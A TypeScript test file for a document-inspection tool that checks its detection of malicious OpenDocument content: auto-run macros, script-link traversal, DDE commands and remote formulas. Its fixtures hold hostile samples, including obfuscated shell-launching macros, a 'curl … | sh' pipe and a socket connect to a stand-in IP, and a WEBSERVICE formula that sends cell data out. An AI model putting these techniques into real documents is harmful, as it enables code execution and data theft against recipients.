/** OpenDocument files with macros bound to events, script links, DDE and remote objects, as packages and flat. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'
import { writeZip } from '#inspect/testing/zip-writer.ts'

const inspector = useInspector()

const ROOT = '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
const NOTICES = new Set(['Docvet.Odf.Macro', 'Docvet.Office.ExternalLinks', 'Docvet.Script.File'])

function idsOf(content: string, parts: Record<string, string> = {}): string[] {
  const all = {
    mimetype: 'application/vnd.oasis.opendocument.text',
    'content.xml': `<?xml version="1.0"?>${ROOT}${content}</office:document-content>`,
    ...parts,
  }
  const bytes = writeZip(Object.entries(all).map(([name, data]) => ({ name, data })))
  return inspector.inspect(bytes).findings.map(({ id }) => id)
}

const accused = (ids: readonly string[]): string[] => ids.filter((id) => !NOTICES.has(id))

const event = (name: string, macro = 'Standard.M.Main'): string =>
  `<script:event-listener script:event-name="${name}" xlink:href="vnd.sun.star.script:${macro}?language=Basic&amp;location=document"/>`
const basic = (source: string): Record<string, string> => ({
  'Basic/Standard/M.xml': `<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M">${source}</script:module>`,
})
const SHELL = 'Sub Main\nShell(&quot;cmd.exe /c calc.exe&quot;)\nEnd Sub'

suite('a macro that starts a program', () => {
  test('on opening is malicious', () => {
    assert.deepEqual(accused(idsOf(event('dom:load'), basic(SHELL))), ['Docvet.Odf.AutoMacro'])
    const hidden = 'Sub Main\nHelper\nEnd Sub\nSub Helper\nShell(Chr(99) &amp; &quot;md /c calc&quot;)\nEnd Sub'
    assert.deepEqual(accused(idsOf(event('office:open'), basic(hidden))), ['Docvet.Odf.AutoMacro'])
    const service =
      'Sub Main\nx = createUnoService(&quot;com.sun.star.system.SystemShellExecute&quot;)\nx.execute(&quot;calc&quot;, &quot;&quot;, 0)\nEnd Sub'
    assert.deepEqual(accused(idsOf(event('dom:load'), basic(service))), ['Docvet.Odf.AutoMacro'])
    const split = service.replace('ShellEx', 'Shell&quot; &amp; &quot;Ex')
    assert.deepEqual(accused(idsOf(event('dom:load'), basic(split))), ['Docvet.Odf.AutoMacro'])
  })
  test('that only a button runs does not count for opening', () => {
    const source =
      'Sub Main\nx = 1\nEnd Sub\nSub Manual\ns = createUnoService(&quot;com.sun.star.system.SystemShellExecute&quot;)\ns.execute(&quot;https://example.com/&quot;, &quot;&quot;, 0)\nEnd Sub'
    assert.deepEqual(accused(idsOf(event('dom:load'), basic(source))), [])
  })
  test('in Python on opening is malicious', () => {
    const python = { 'Scripts/python/a.py': 'import os\ndef main():\n  os.system("calc")\n' }
    assert.deepEqual(accused(idsOf(event('dom:load', 'a.py$main'), python)), ['Docvet.Odf.AutoMacro'])
  })
  test('in Python under another name is malicious as well', () => {
    for (const source of [
      'import subprocess as s\ndef main(*a):\n  getattr(s, "Po" + "pen")(["calc"])\n',
      'import os\ndef main(*a):\n  getattr(os, "sys" + "tem")("calc")\n',
      'from os import system as s\ndef main(*a):\n  s("calc")\n',
      'import os as o\ndef main(*a):\n  o.system("calc")\n',
      'from ctypes import windll\ndef main(*a):\n  windll.kernel32.VirtualAlloc(0)\n',
      'from socket import socket as s\ndef main(*a):\n  s().connect(("192.0.2.1", 4444))\n',
      'def main(*a):\n  x = ctx.ServiceManager.createInstance("com.sun.star.system.SystemShellExecute")\n  x.execute("cmd.exe", "/c calc", 0)\n',
    ])
      assert.ok(
        idsOf(event('dom:load', 'a.py$main'), { 'Scripts/python/a.py': source }).includes('Docvet.Odf.AutoMacro'),
        source,
      )
    const fetching = (source: string): string[] =>
      accused(idsOf(event('dom:load', 'a.py$main'), { 'Scripts/python/a.py': source }))
    const fetch =
      'import urllib.request\ndef main():\n  x = urllib.request.urlopen("https://example.com/rates.json").read()\n'
    assert.deepEqual(fetching(fetch), ['Docvet.Odf.AutoFetch'])
    assert.ok(fetching(`${fetch}  open("a.exe", "wb").write(x)\n`).includes('Docvet.Odf.AutoMacro'))
    assert.ok(fetching(`${fetch}  exec(x)\n`).includes('Docvet.Odf.AutoMacro'))
    const harmless = { 'Scripts/python/a.py': 'import os\ndef main(*a):\n  x = getattr(a, "Title")\n' }
    assert.deepEqual(accused(idsOf(event('dom:load', 'a.py$main'), harmless)), [])
  })
  test('that everyone knows is a notice', () => {
    const copy = 'Sub Main\nShell(&quot;xcopy C:\\a.ods D:\\Backup /Y&quot;)\nEnd Sub'
    assert.deepEqual(accused(idsOf(event('dom:load'), basic(copy))), [])
  })
  test('after a click is suspicious', () => {
    assert.deepEqual(accused(idsOf(event('dom:click'), basic(SHELL))), ['Docvet.Odf.MacroStart'])
  })
  test('in a flat file is found as well', () => {
    const flat = `<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">
      <ooo:module ooo:name="M"><ooo:source-code>${SHELL}</ooo:source-code></ooo:module>${event('dom:load')}</office:document>`
    assert.deepEqual(accused(inspector.inspect(Buffer.from(flat)).findings.map(({ id }) => id)), [
      'Docvet.Odf.AutoMacro',
    ])
  })
  test('in a flat file in an archive is found as well', () => {
    const flat = (
      source: string,
    ) => `<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">
      <ooo:module ooo:name="M"><ooo:source-code>${source}</ooo:source-code></ooo:module>${event('dom:load')}</office:document>`
    const zipped = (source: string) =>
      inspector.inspect(writeZip([{ name: 'a.fodt', data: flat(source) }])).findings.map(({ id }) => id)
    assert.deepEqual(accused(zipped(SHELL)), ['Docvet.Odf.AutoMacro'])
    const piped =
      'Sub Main\nShell(&quot;bash&quot;, 0, &quot;-c &apos;curl http://192.0.2.1/a | sh&apos;&quot;)\nEnd Sub'
    assert.deepEqual(accused(zipped(piped)), ['Docvet.Odf.AutoMacro'])
    assert.deepEqual(zipped('Sub Main\nMsgBox &quot;a&quot;\nEnd Sub'), ['Docvet.Odf.Macro'])
  })
  test('is found if the namespace is written with character references', () => {
    const hidden = (source: string, colon: string, extra = '') => {
      const content = `<office:document-content xmlns:office="urn${colon}oasis:names:tc:opendocument:xmlns:office:1.0">${extra}${event('dom:load')}</office:document-content>`
      return accused(idsOf('', { ...basic(source), 'content.xml': content }))
    }
    for (const colon of ['&#58;', '&#x3a;', '&#X003A;'])
      assert.deepEqual(hidden(SHELL, colon), ['Docvet.Odf.AutoMacro'], colon)
    assert.deepEqual(hidden('Sub Main\nEnd Sub', '&#58;'), [])
    assert.deepEqual(hidden('Sub Main\nEnd Sub', '&#58;', '<draw:image xlink:href="file://192.0.2.1/a"/>'), [
      'Docvet.Office.CredentialLeak',
    ])
  })
  test('in JavaScript or BeanShell on opening is malicious', () => {
    for (const source of [
      'new ProcessBuilder("calc").start()',
      'Runtime.getRuntime().exec("calc")',
      'x("SystemShell" + "Execute")',
    ])
      assert.deepEqual(
        accused(idsOf(event('dom:load', 'L.a.bsh'), { 'Scripts/beanshell/L/a.bsh': source })),
        ['Docvet.Odf.AutoMacro'],
        source,
      )
    assert.deepEqual(accused(idsOf(event('dom:load', 'L.a.bsh'), { 'Scripts/beanshell/L/a.bsh': 'print("a");' })), [])
  })
  test('without an event is a notice', () => {
    assert.deepEqual(idsOf('', basic(SHELL)), ['Docvet.Odf.Macro'])
  })
})

test('a click on a slide that starts a program is malicious, one that shows another slide is harmless', () => {
  const action = (kind: string, href: string): string[] =>
    idsOf(
      `<presentation:event-listener script:event-name="dom:click" presentation:action="${kind}" xlink:href="${href}"/>`,
    )
  assert.deepEqual(action('execute', 'file:///C:/Windows/System32/mshta.exe'), ['Docvet.Ooxml.ProgramAction'])
  assert.deepEqual(action('next-page', ''), [])
  assert.deepEqual(action('show', '#page3'), [])
})

test('a macro on opening that only shows a message or loads a library is a notice', () => {
  const library = 'Sub Main\nGlobalScope.BasicLibraries.LoadLibrary(&quot;Tools&quot;)\nEnd Sub'
  assert.deepEqual(idsOf(event('dom:load'), basic(library)), ['Docvet.Odf.Macro'])
  assert.deepEqual(idsOf(event('dom:load'), basic('Sub Main\nMsgBox &quot;Shell&quot;\nEnd Sub')), ['Docvet.Odf.Macro'])
})

suite('a link', () => {
  const link = (href: string): string[] => accused(idsOf(`<text:a xlink:href="${href}">a</text:a>`))
  test('that runs code outside the document is malicious', () => {
    for (const href of [
      'vnd.sun.star.script:../../../program/python-core-3.5.5/lib/pydoc.py$tempfilepager(1, calc.exe )?language=Python&amp;location=share',
      'vnd.sun.star.script:LibreLogo/LibreLogo.py$run?language=Python&amp;location=share',
      'vnd.sun.star.expand:$BRAND_BASE_DIR/program/a',
      'vnd.sun.star.script:%2e%2e/%2e%2e/a.py$b?language=Python&amp;location=user',
      'vnd.sun.star.script:..%5C..%2Fprogram/a.py$b?language=Python&amp;location=share',
    ])
      assert.ok(link(href).includes('Docvet.Odf.ScriptTraversal'), href)
  })
  test('to a function of the document itself does not leave it', () => {
    for (const href of [
      'vnd.sun.star.script:table.py$sort_table?language=Python&amp;location=document',
      'vnd.sun.star.script:lib|table.py$_sort?language=Python&amp;location=document',
    ])
      assert.ok(!link(href).includes('Docvet.Odf.ScriptTraversal'), href)
  })
  test('to a macro of the document counts as an event that needs a click', () => {
    const href = 'vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document'
    const button = (source: string) =>
      accused(idsOf(`<form:button form:name="onload" xlink:href="${href}"/>`, basic(source)))
    assert.deepEqual(link(href), [])
    assert.deepEqual(button('Sub Main\nMsgBox &quot;a&quot;\nEnd Sub'), [])
    assert.deepEqual(button(SHELL), ['Docvet.Odf.MacroStart'])
    assert.deepEqual(link(href.replace('document', 'user')), ['Docvet.Link.Handler'])
  })
  test('to a page is a notice', () => {
    assert.deepEqual(idsOf('<text:a xlink:href="https://example.com/">a</text:a>'), ['Docvet.Office.ExternalLinks'])
    assert.deepEqual(idsOf('<text:a xlink:href="#Chapter">a</text:a>'), [])
  })
})

test('DDE to a program is malicious, to a document a notice', () => {
  const decl = (server: string, topic: string): string[] =>
    idsOf(
      `<text:dde-connection-decl office:dde-application="${server}" office:dde-topic="${topic}" office:dde-item="a"/>`,
    )
  assert.deepEqual(decl('cmd', '/c calc'), ['Docvet.Sheet.DdeCommand'])
  assert.deepEqual(decl('soffice', 'C:\\a.odt'), ['Docvet.Sheet.DdeFeed'])
  const cell = (formula: string): string[] => idsOf(`<table:table-cell table:formula="${formula}"/>`)
  assert.deepEqual(cell('of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;a&quot;)'), ['Docvet.Sheet.DdeCommand'])
  assert.deepEqual(cell('of:=DDE(&quot;soffice&quot;;&quot;a.ods&quot;;&quot;A1&quot;)'), ['Docvet.Sheet.DdeFeed'])
  assert.deepEqual(cell('oooc:=cmd|&apos;/c calc&apos;!A0'), ['Docvet.Sheet.DdeCommand'])
  assert.deepEqual(cell('of:=SUM([.A1:.A2])'), [])
  assert.deepEqual(cell('of:=COM.MICROSOFT.WEBSERVICE(&quot;file:///etc/passwd&quot;)'), ['Docvet.Sheet.RemoteFormula'])
  assert.deepEqual(cell('of:=WEBSERVICE(&quot;http://192.0.2.1/?&quot;&amp;[.A1])'), ['Docvet.Sheet.RemoteFormula'])
  assert.deepEqual(cell('of:=WEBSERVICE(&quot;https://example.com/rates&quot;)'), [])
})

test('objects and sections from servers are suspicious, pictures from the web a notice', () => {
  const loaded = (tag: string, href: string): string[] => idsOf(`<${tag} xlink:href="${href}"/>`)
  assert.deepEqual(loaded('text:section-source', 'https://example.com/a.odt'), ['Docvet.Odf.RemoteObject'])
  assert.deepEqual(loaded('draw:object', 'http://192.0.2.1/a.odt'), ['Docvet.Ooxml.RemoteObject'])
  assert.deepEqual(loaded('draw:object', 'http://192.0.2.1/a'), ['Docvet.Ooxml.RemoteObject'])
  for (const name of 'section-source object object-ole table-source cell-range-source floating-frame plugin applet template'.split(
    ' ',
  ))
    assert.deepEqual(loaded(`a:${name}`, 'https://example.com/a.odt'), ['Docvet.Odf.RemoteObject'], name)
  assert.deepEqual(loaded('draw:floating-frame', 'file://192.0.2.1/a'), ['Docvet.Office.CredentialLeak'])
  assert.deepEqual(loaded('draw:image', 'https://example.com/a.png'), ['Docvet.Ooxml.RemotePicture'])
  assert.deepEqual(loaded('draw:object', './Object 1'), [])
  assert.deepEqual(loaded('draw:image', 'Pictures/a.png'), [])
})
